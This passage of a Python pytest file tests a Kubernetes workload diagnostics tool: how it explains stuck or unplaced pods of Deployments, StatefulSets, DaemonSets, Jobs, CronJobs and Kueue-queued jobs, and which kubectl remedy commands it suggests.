        ({}, [f"{STATEFUL_UNDO} && kubectl delete pod web-2 -n shop"]),
        ({"podManagementPolicy": "Parallel"}, [STATEFUL_UNDO]),
        ({"updateStrategy": {"type": "OnDelete"}}, []),
    ],
)
def test_an_update_of_a_stateful_set_may_be_undone(spec: Json, commands: list[str]) -> None:
    owner = ("StatefulSet", "web")
    pods = [
        a_pod(owner, "web-0", node="n1", ready=True),
        a_pod(owner, "web-1", node="n1", ready=True),
        a_pod(owner, "web-2", message="0/1 nodes are available"),
    ]
    for pod, revision in zip(pods, ("r1", "r1", "r2"), strict=True):
        pod["metadata"]["labels"]["controller-revision-hash"] = revision
    workload = a_workload("StatefulSet", spec, status={"updateRevision": "r2"})
    assert list_commands("StatefulSet", workload, *pods, explanation=an_evaluation("web-2")) == commands


def test_an_update_of_a_daemon_set_may_be_undone() -> None:
    owner = ("DaemonSet", "web")
    pods = [a_pod(owner, "web-a", node="n1", ready=True), a_pod(owner, "web-b", message="0/1 nodes are available")]
    for pod, generation in zip(pods, ("1", "2"), strict=True):
        pod["metadata"]["labels"]["pod-template-generation"] = generation
    status = {"desiredNumberScheduled": 2, "currentNumberScheduled": 2}
    annotations = {"deprecated.daemonset.template.generation": "2"}
    workload = a_workload("DaemonSet", status=status, annotations=annotations)
    commands = list_commands("DaemonSet", workload, *pods, explanation=an_evaluation("web-b"))
    assert commands == ["kubectl rollout undo daemonset/web -n shop"]


def test_waiting_pods_are_explained_by_the_decision_and_not_by_the_event() -> None:
    change = a_suggestion(command="kubectl x", checked=True)
    explanation = {
        "headline": "No node fits: too little cpu.",
        "metadata": {"uid": "u-web-a"},
        "outcome": {"node": None},
        "attempt": {"source": "evaluated"},
        "rejections": [{"count": 2, "reasons": [{"code": "insufficient"}]}],
        "suggestions": [change],
    }
    pods = [a_pod(("ReplicaSet", "web"), f"web-{n}", message="0/9 nodes are available") for n in "abc"]
    live = look("ReplicaSet", a_workload("ReplicaSet"), *pods, explanation=explanation)
    assert "web-a and 2 more: No node fits: too little cpu" in live["state"]["headline"]
    assert "0/9" not in str(live["state"])
    remedy = {"text": "lower it: fits n1 (checked for 1 pod of 3)", "command": "kubectl x", "checked": True}
    assert live["state"]["causes"][0]["remedies"] == [remedy]
    assert [(each["count"], each["reason"]) for each in live["pods"]] == [(3, "insufficient")]
    counts = {name: live["counts"][name] for name in ("wanted", "created", "placed", "pending", "notCreated")}
    assert counts == {"wanted": 3, "created": 3, "placed": 0, "pending": 3, "notCreated": 0}


@pytest.mark.parametrize(
    ("spec", "status", "code", "cause"),
    [
        ({"suspend": True}, {}, "workload-suspended", "suspended"),
        (
            {"backoffLimit": 2},
            {"failed": 3, "conditions": ["BackoffLimitExceeded"]},
            "workload-failed",
            "backoff-limit",
        ),
        ({}, {"conditions": ["DeadlineExceeded"]}, "workload-failed", "job-deadline"),
        ({}, {"failed": 2}, "workload-running", ""),  # it waits before it tries again
        ({"managedBy": "kueue.x-k8s.io/multikueue"}, {}, "workload-elsewhere", "other-controller"),
        ({"managedBy": "jobs.example/own"}, {}, "workload-not-created", "other-controller"),
        ({}, {}, "workload-not-created", "creation-unexplained"),
    ],
)
def test_states_of_jobs(spec: Json, status: Json, code: str, cause: str) -> None:
    conditions = [{"type": "Failed", "status": "True", "reason": reason} for reason in status.pop("conditions", ())]
    job = a_workload("Job", {"completions": 1, **spec}, status={**status, "conditions": conditions})
    state = find("Job", job)
    assert (state["code"], "".join(each["code"] for each in state["causes"])) == (code, cause)


def test_job_in_a_queue_is_not_to_be_resumed_by_hand() -> None:
    job = a_workload("Job", {"suspend": True}, labels={"kueue.x-k8s.io/queue-name": "batch"})
    state = find("Job", job)
    assert (state["actor"], state["causes"][0]["code"], state["causes"][0]["remedies"]) == ("Kueue", "queued", [])


@pytest.mark.parametrize(
    ("is_active", "reason"), [(None, "EvictedDueToDeactivated"), (False, "Pending"), (True, "Pending")]
)
def test_workload_that_kueue_deactivated_is_activated_and_not_resumed(is_active: bool | None, reason: str) -> None:
    job = a_workload("Job", {"suspend": True}, labels={"kueue.x-k8s.io/queue-name": "batch"})
    of = ("Workload", "job-web-9f1c2")
    read = [] if is_active is None else [an_object(*of, {"active": is_active})]
    state = find("Job", job, *read, an_event(of, reason, "too many retries", 5))
    commands = [str(remedy["command"]) for remedy in state["causes"][0]["remedies"]]
    assert ["job-web-9f1c2" in each and '"active":true' in each for each in commands] == [True] * (not is_active)
    assert state["actor"] == ("Kueue" if is_active else "user")


def test_what_kueue_says_of_the_workload_of_a_job_is_told_until_it_admits_it() -> None:
    job = a_workload("Job", {"suspend": True}, labels={"kueue.x-k8s.io/queue-name": "batch"})
    of = ("Workload", "job-web-9f1c2")
    refusal = an_event(of, "Inadmissible", "LocalQueue batch doesn't exist", 5)
    state = find("Job", job, refusal, an_event(("Workload", "job-web-api-9f1c2"), "Pending", "of another Job", 1))
    assert "until Kueue admits it from queue batch: LocalQueue batch doesn't exist" in state["headline"]
    admitted = an_event(of, "Admitted", "Admitted by ClusterQueue cq", 1)
    assert "doesn't exist" not in find("Job", job, refusal, admitted)["headline"]


@pytest.mark.parametrize("stop", ["event-of-the-job", "event-of-the-workload", "condition"])
def test_a_job_that_kueue_stopped_says_why_beside_what_it_waits_for(stop: str) -> None:
    job = a_workload("Job", {"suspend": True}, labels={"kueue.x-k8s.io/queue-name": "batch"})
    of, why = ("Workload", "job-web-9f1c2"), "Preempted to accommodate a workload"
    events = [an_event(("Job", "web"), "Started", "Admitted by clusterQueue q1", 60), an_event(of, "Admitted", "a", 60)]
    objects = {
        "event-of-the-job": an_event(("Job", "web"), "Stopped", why, 6),
        "event-of-the-workload": an_event(of, "EvictedDueToPreempted", why, 6),
        "condition": an_object("Workload", of[1]),
    }
    evicted = {"type": "Evicted", "status": "True", "message": why, "lastTransitionTime": at(6)}
    objects["condition"]["status"] = {"conditions": [evicted]}
    pending = an_event(of, "Pending", "insufficient unused quota", 1)
    headline = find("Job", job, *events, objects[stop], pending)["headline"]
    assert f"stopped before: {why} 6m ago" in headline
    assert "from queue batch: insufficient unused quota" in headline
    if stop != "condition":
        assert "stopped" not in find("Job", job, objects[stop], an_event(of, "Admitted", "a", 1), pending)["headline"]


@pytest.mark.parametrize(
    ("kind", "spec", "waits"),
    [
        ("Job", {"completions": 1, "podReplacementPolicy": "Failed"}, True),
        ("Job", {"completions": 1, "podFailurePolicy": {"rules": []}}, True),
        ("Job", {"completions": 1}, False),
        ("StatefulSet", {"replicas": 1}, True),
        ("Deployment", {"replicas": 1, "strategy": {"type": "Recreate"}}, True),
        ("Deployment", {"replicas": 1}, False),
        ("DaemonSet", {}, True),
        ("ReplicaSet", {"replicas": 1}, False),
    ],
)
def test_a_pod_that_is_replaced_only_after_its_end_is_named(kind: str, spec: Json, waits: bool) -> None:
    made = a_workload(kind, spec, status={"desiredNumberScheduled": 1})
    replica_set = [a_replica_set(made)] if kind == "Deployment" else []
    owner = ("ReplicaSet", "web-6b8") if replica_set else (kind, "web")
    pod = a_pod(owner, "web-0", node="n1", ready=True)
    pod["metadata"] |= {"deletionTimestamp": at(15), "deletionGracePeriodSeconds": 30}
    node = a_node("n1")
    node["status"]["conditions"][0] |= {"status": "Unknown", "lastTransitionTime": at(20)}
    live = look(kind, made, *replica_set, pod, node)
    assert (live["counts"]["created"], live["counts"]["terminating"], live["counts"]["notCreated"]) == (0, 1, 1)
    codes = [cause["code"] for cause in live["state"]["causes"]]
    assert ("waits-for-terminating-pod" in codes) is waits
    if waits:
        text = live["state"]["causes"][0]["text"]
        assert "replaces web-0 only after its end" in text
        assert "node n1 is unreachable" in text


@pytest.mark.parametrize(
    ("broken", "revision", "remedies"), [("n1", "4", 1), ("n1", "5", 0), ("", "4", None)], ids=["old", "new", "none"]
)
def test_an_update_that_unavailable_pods_hold_up_says_so(broken: str, revision: str, remedies: int | None) -> None:
    generation = "deprecated.daemonset.template.generation"
    made = a_workload(
        "DaemonSet",
        {"updateStrategy": {"type": "RollingUpdate", "rollingUpdate": {"maxUnavailable": "20%"}}},
        annotations={generation: "5"},
        status={"desiredNumberScheduled": 3},
    )
    pods = [a_pod(("DaemonSet", "web"), f"web-{n}", node=n, ready=n != broken) for n in ("n1", "n2", "n3")]
    for pod in pods:
        is_broken = pod["spec"]["nodeName"] == broken
        pod["metadata"]["labels"] |= {"pod-template-generation": revision if is_broken else "4"}
    state = find("DaemonSet", made, *pods, *(a_node(name) for name in ("n1", "n2", "n3")))
    waiting = [cause for cause in state["causes"] if cause["code"] == "update-waits"]
    assert [len(cause["remedies"]) for cause in waiting] == ([] if remedies is None else [remedies])
    if waiting:
        assert "maxUnavailable 20% is used up by web-n1 on n1" in state["headline"]


def test_rollout_whose_new_pods_are_refused_is_no_healthy_one() -> None:
    deployment = a_workload("Deployment", {"replicas": 1}, status={"updatedReplicas": 0, "readyReplicas": 1})
    old = a_replica_set(a_workload("Deployment", {"replicas": 1}, {"hostNetwork": True}), "web-old")
    new = a_replica_set(deployment, "web-new", "2")
    message = 'pods "web-new-" is forbidden: exceeded quota: team, requested: pods=1, used: pods=1, limited: pods=1'
    event = an_event(("ReplicaSet", "web-new"), "FailedCreate", message)
    pod = a_pod(("ReplicaSet", "web-old"), "web-old-a", node="n1", ready=True)
    state = find("Deployment", deployment, old, new, pod, event)
    assert (state["code"], state["actor"]) == ("workload-rolling-out", "user")
    assert "New pods are not created" in state["headline"]
    assert "team" in state["headline"]


def test_events_of_an_autoscaler_that_cannot_be_read_say_why_it_does_not_scale() -> None:
    message = "failed to get cpu utilization: missing request for cpu in container main of Pod web-0"
    event = an_event(("HorizontalPodAutoscaler", "web"), "FailedGetResourceMetric", message)
    pod = an_object(
        "Pod", "web-0", {"nodeName": "n1"}, labels={"app": "web"}, ownerReferences=owned_by("StatefulSet", "web")
    )
    pod["status"] = {"phase": "Running", "conditions": [{"type": "Ready", "status": "True"}]}
    made = a_workload("StatefulSet", {"replicas": 1}, status={"readyReplicas": 1})
    unread = find("StatefulSet", made, pod, event, forbidden=["horizontalpodautoscalers"])
    assert [message in cause["text"] for cause in unread["causes"]] == [True]
    assert find("StatefulSet", made, pod, event)["causes"] == []  # the event is of one that is gone


def a_cron_job(**spec: Any) -> Json:
    return an_object("CronJob", spec={"schedule": "0 * * * *", "jobTemplate": {"spec": {}}, **spec})


def test_states_of_cron_jobs() -> None:
    suspended = find("CronJob", a_cron_job(suspend=True))
    assert suspended["causes"][0]["remedies"][0]["command"].startswith("kubectl patch cronjob web -n shop")  # type: ignore[union-attr]
    waits = a_cron_job() | {"status": {"lastScheduleTime": at(60)}}
    waits["spec"]["schedule"] = "0 10,14 * * *"
    waits["status"]["lastScheduleTime"] = at(120)
    state = find("CronJob", waits)
    assert (state["code"], state["actor"]) == ("workload-waits-for-schedule", None)
    assert "next in 2h, at 2026-03-01 14:00 UTC" in state["headline"]
    missed = waits | {"status": {"lastScheduleTime": at(24 * 60)}}
    assert [cause["code"] for cause in find("CronJob", missed)["causes"]] == ["schedule-missed"]


def test_cron_job_whose_controller_gave_up_is_not_said_to_run_again() -> None:
    event = an_event(("CronJob", "web"), "FailedNeedsStart", "too many missed start time (> 100)")
    state = find("CronJob", a_cron_job() | {"status": {"lastScheduleTime": at(24 * 60)}}, event)
    assert [cause["code"] for cause in state["causes"]] == ["schedule-stopped"]
    assert "starts no more Jobs" in state["headline"]
    assert "next in" not in state["headline"]


def test_active_job_speaks_for_its_cron_job() -> None:
    job = an_object("Job", "web-29", a_workload("Job")["spec"], ownerReferences=owned_by("CronJob", "web"))
    event = an_event(("Job", "web-29"), "FailedCreate", f"{FORBIDDEN}no PriorityClass with name gold was found")
    state = find("CronJob", a_cron_job(), job, event)
    assert (state["code"], state["causes"][0]["code"]) == ("workload-not-created", "priority-class-missing")
    assert state["headline"].startswith("Job web-29 is active: 0 of 1 pods exist")


def test_kind_that_is_not_served_is_known_by_its_events() -> None:
    message = 'Error creating job: jobs.batch "web-1" is forbidden: exceeded quota: q, requested: count/jobs.batch=1,'
    message += " used: count/jobs.batch=5, limited: count/jobs.batch=5"
    state = find("CronJob", an_event(("CronJob", "web"), "FailedCreate", message), unserved=["cronjobs"])
    assert (state["code"], state["causes"][0]["code"]) == ("workload-not-read", "quota-exceeded")
    assert "the API server does not serve its kind" in state["headline"]


def test_no_number_is_given_for_what_cannot_be_read() -> None:
    live = look("Deployment", forbidden=["deployments", "pods"])
    assert (live["counts"]["wanted"], live["state"]["code"]) == (None, "workload-not-read")
    assert "you may not read it" in live["state"]["headline"]
    status = {"replicas": 3, "readyReplicas": 3, "availableReplicas": 3, "updatedReplicas": 3}
    deployment = a_workload("Deployment", status=status)
    counts = look("Deployment", deployment, a_replica_set(deployment), forbidden=["pods"])["counts"]
    assert (counts["created"], counts["ready"], counts["notCreated"]) == (3, 3, 0)
    assert counts["placed"] is None


def test_short_form_has_the_cause_and_its_fix() -> None:
    message = f'{IN_SET}error looking up service account shop/db: serviceaccount "db" not found'
    live = look("StatefulSet", a_workload("StatefulSet"), an_event(("StatefulSet", "web"), "FailedCreate", message))
    answer = {"kind": "WorkloadPlacement", "metadata": {"namespace": "shop", "name": "StatefulSet/web"}, "placed": 0}
    brief = shorten({**answer, "headline": "It has no pod.", "pending": [], "live": live})
    assert (brief["code"], brief["about"]) == ("service-account-missing", "StatefulSet")
    assert brief["fix"] is not None
    assert brief["fix"]["command"] == "kubectl create serviceaccount db -n shop"


# --- names, amounts, schedules --------------------------------------------------------------------------------------


def test_name_without_kind_means_no_object_that_another_one_of_that_name_owns() -> None:
    deployment = a_workload("Deployment")
    assert find_kinds("web", "shop", a_cluster(deployment, a_replica_set(deployment, "web"))) == ["Deployment"]
    assert find_kinds("web", "shop", a_cluster(deployment, a_workload("Job"))) == ["Deployment", "Job"]


@pytest.mark.parametrize(
    ("name", "text", "shown"),
    [
        ("requests.cpu", "1500m", "1500m"),
        ("limits.memory", "1.5Gi", "1.5Gi"),
        ("requests.storage", "4G", "4G"),
        ("count/jobs.batch", "5", "5"),
        ("requests.nvidia.com/gpu", "8", "8"),
    ],
)
def test_amounts_are_shown_as_people_write_them(name: str, text: str, shown: str) -> None:
    amount = parse_quantity(text)
    assert amount is not None
    assert format_limit(name, amount) == shown


@pytest.mark.parametrize(
    ("text", "zone", "following", "last"),
    [
        ("0 2 * * *", "", "2026-03-02T02:00", "2026-03-01T02:00"),
        ("*/15 9-17 * * mon-fri", "Europe/Berlin", "2026-03-02T08:00", "2026-02-27T16:45"),
        ("0 0 13 * 5", "", "2026-03-06T00:00", "2026-02-27T00:00"),  # the 13th, or a Friday
        ("@hourly", "", "2026-03-01T13:00", "2026-03-01T12:00"),
    ],
)
def test_times_of_schedules(text: str, zone: str, following: str, last: str) -> None:
    schedule = parse_schedule(text, zone)
    assert schedule is not None
    times = (schedule.find_next(NOW), schedule.find_last(NOW))
    assert [time and time.isoformat()[:16] for time in times] == [following, last]


@pytest.mark.parametrize("text", ["61 * * * *", "* * * *", "@every 5m", "a b c d e"])
def test_schedule_that_cannot_be_computed_is_unknown(text: str) -> None:
    assert parse_schedule(text) is None


def test_daemon_set_in_a_cluster_without_nodes_selects_nothing_wrong() -> None:
    daemon_set = a_workload("DaemonSet", status={"desiredNumberScheduled": 0})
    assert find("DaemonSet", daemon_set)["headline"] == "Asks for no pods: the cluster has no nodes."
    assert "cannot be read" in find("DaemonSet", daemon_set, forbidden=["nodes"])["headline"]


def test_silence_of_events_that_may_not_be_read_is_not_told_as_silence() -> None:
    state = find("StatefulSet", a_workload("StatefulSet"), forbidden=["events"])
    assert "its events cannot be read" in state["headline"]
    assert state["causes"][0]["remedies"][0]["command"] == "kubectl get events -n shop --sort-by=.lastTimestamp"


@pytest.mark.parametrize(
    ("reason", "words"),
    [("UnknownTimeZone", "set timeZone of CronJob/web"), ("JobAlreadyActive", "concurrencyPolicy of CronJob/web")],
)
def test_event_of_a_cron_job_that_makes_no_job_has_a_remedy(reason: str, words: str) -> None:
    event = an_event(("CronJob", "web"), reason, "words of the controller")
    state = find("CronJob", event, unserved=["cronjobs"])
    assert words in state["causes"][0]["remedies"][0]["text"]


def test_missing_pod_of_a_daemon_set_is_explained_by_the_one_that_failed() -> None:
    failed = a_pod(("DaemonSet", "web"), "web-b", node="n1")
    failed["status"] = {"phase": "Failed", "reason": "Evicted", "message": "The node was low on resource: memory."}
    daemon_set = a_workload("DaemonSet", status={"desiredNumberScheduled": 1})
    state = find("DaemonSet", daemon_set, a_node("n1"), failed)
    assert state["headline"].startswith("0 of 1 pods exist. Its last pod failed: web-b: The node was low on resource")


def test_job_with_failed_indexes_names_them_and_the_limit() -> None:
    condition = {"type": "Failed", "status": "True", "reason": "MaxFailedIndexesExceeded", "message": "too many"}
    status = {"failedIndexes": "4,6", "conditions": [condition]}
    state = find("Job", a_workload("Job", {"maxFailedIndexes": 1}, status=status))
    assert "(maxFailedIndexes 1; failed indexes 4,6)" in state["headline"]


def test_selector_that_conflicts_with_the_namespaces_is_named() -> None:
    workload = a_workload("ReplicaSet", pod_spec={"nodeSelector": {"pool": "b"}})
    words = (
        'Error creating: pods "web-x" is forbidden: pod node label selector conflicts with its namespace node label '
    )
    cause = refused("ReplicaSet", f"{words}selector", workload=workload)
    assert cause["code"] == "creation-refused"
    assert "nodeSelector (pool=b)" in cause["remedies"][0]["text"]


def test_refusal_of_a_replica_set_is_found_in_the_condition_of_its_deployment() -> None:
    message = (
        'Failed to create new replica set "web-7": replicasets.apps "web-7" is forbidden: exceeded quota: objects, '
    )
    message += (
        "requested: count/replicasets.apps=1, used: count/replicasets.apps=20, limited: count/replicasets.apps=20"
    )
    condition = {"type": "Progressing", "status": "False", "reason": "ReplicaSetCreateError", "message": message}
    state = find("Deployment", a_workload("Deployment", status={"conditions": [condition]}))
    assert (state["code"], state["causes"][0]["code"]) == ("workload-not-created", "quota-exceeded")
    assert state["causes"][0]["source"] == "status.conditions[Progressing] of Deployment/web"
    assert state["causes"][0]["remedies"]


def test_job_without_parallelism_makes_no_pods() -> None:
    state = find("Job", a_workload("Job", {"completions": 5, "parallelism": 0}, status={"succeeded": 2}))
    assert state["headline"] == "Makes no pods: its parallelism is 0 (2 of 5 completions)."
    assert (
        state["causes"][0]["remedies"][0]["command"]
        == """kubectl patch job web -n shop -p '{"spec":{"parallelism":1}}'"""
    )


@pytest.mark.parametrize("kind", ["Deployment", "DaemonSet"])
def test_a_new_pod_that_is_not_ready_is_named_while_enough_earlier_ones_are_ready(kind: str) -> None:
    made = a_workload(kind, {"replicas": 1}, status={"desiredNumberScheduled": 1})
    owners, sets = [(kind, "web")] * 2, []
    if kind == "Deployment":
        owners = [("ReplicaSet", "web-old"), ("ReplicaSet", "web-new")]
        earlier = a_workload(kind, {"replicas": 1}, {"hostNetwork": True})
        sets = [a_replica_set(earlier, "web-old"), a_replica_set(made, "web-new", "2")]
    old, new = (a_pod(owner, f"web-{n}", node="n1", ready=n == "a") for owner, n in zip(owners, "ab", strict=True))
    state = find(kind, made, *sets, old, new, a_node("n1"))
    assert (state["code"], state["actor"]) == ("workload-rolling-out", "user")
    assert "1 of 1 pods is ready" in state["headline"]
    assert "web-b: container main ends again and again" in state["headline"]
    assert ("1 of the newest template (not ready), 1 of an earlier one" in state["headline"]) is bool(sets)


@pytest.mark.parametrize(("reason", "has"), [("TooManyMissedTimes", True), ("MissSchedule", False)])
def test_cron_job_that_missed_too_many_times_gets_a_command(reason: str, *, has: bool) -> None:
    cron_job = a_workload("CronJob", {"schedule": "* * * * *", "jobTemplate": {"spec": {}}})
    state = find("CronJob", cron_job, an_event(("CronJob", "web"), reason, "too many missed start times: 101"))
    commands = [r["command"] for cause in state["causes"] for r in cause["remedies"] if r["command"]]
    assert [("startingDeadlineSeconds" in each) for each in commands] == ([True] if has else [])


@pytest.mark.parametrize(
    ("key", "has", "selector", "op"),
    [
        ("dedicated", [], {}, "/spec/template/spec/tolerations"),
        ("dedicated", [{"key": "gpu", "operator": "Exists"}], {}, "/spec/template/spec/tolerations/-"),
        ("node-role.kubernetes.io/control-plane", [], {}, "/spec/template/spec/tolerations"),
        ("dedicated", [], {"disk": "ssd"}, ""),
        ("karpenter.sh/disrupted", [], {}, ""),
        ("kubernetes.io/arch", [], {}, ""),
    ],
)
def test_daemon_set_is_made_to_tolerate_a_taint_where_that_gives_it_a_pod(
    key: str, has: list[Json], selector: Json, op: str
) -> None:
    node = a_node("n1", taints=[{"key": key, "value": "x", "effect": "NoSchedule"}])
    pod_spec = {"tolerations": has, "nodeSelector": selector}
    daemon_set = a_workload("DaemonSet", pod_spec=pod_spec, status={"desiredNumberScheduled": 0})
    command = find("DaemonSet", daemon_set, node)["causes"][0]["remedies"][0]["command"]
    assert look("DaemonSet", daemon_set, node)["nodesWithoutPod"][0].get("command") == command
    assert [each["path"] for each in json.loads((command or "'[]'").partition("'")[2][:-1])] == ([op] if op else [])


@pytest.mark.parametrize(("minutes", "is_told"), [(7, True), (2 * 1440, False)])
def test_job_tells_which_of_its_pods_was_preempted_unless_the_successor_waits_for_days(
    minutes: float, *, is_told: bool
) -> None:
    job = a_workload("Job", {"parallelism": 1, "completions": 1}, status={"active": 1})
    waiting = a_pod(("Job", "web"), "web-b2c4d", message="0/1 nodes are available: 1 Insufficient cpu.")
    waiting["metadata"]["creationTimestamp"] = at(minutes)
    event = an_event(("Pod", "web-a1b2c"), "Preempted", "Preempted by pod x on node n1")
    codes = [cause["code"] for cause in find("Job", job, waiting, event)["causes"]]
    assert ("preempted-by-scheduler" in codes) is is_told


def test_limit_that_the_template_lacks_is_that_of_a_limit_range() -> None:
    limits = [{"type": "Container", "default": {"cpu": "500m"}}]
    ranges = [an_object("LimitRange", "small", {"limits": limits})]
    resources = {"requests": {"cpu": "700m"}}
    for limit, has, says in (("", ranges, "LimitRange small gives"), ("", [], "or a webhook gives"), ("1", ranges, "")):
        stated = {**resources, "limits": {"cpu": limit}} if limit else resources
        workload = a_workload("StatefulSet", pod_spec={"containers": [{"name": "main", "resources": stated}]})
        message = 'Pod "web-0" is invalid: spec.containers[0].resources.requests: Invalid value: "700m": must be less'
        event = an_event(("StatefulSet", "web"), "FailedCreate", f"{message} than or equal to cpu limit of 500m")
        cause = find("StatefulSet", workload, event, *has)["causes"][0]
        assert says in cause["text"]
        assert ("gives container" in cause["text"]) is bool(says)
        assert bool(cause["remedies"][0]["command"]) is bool(says)
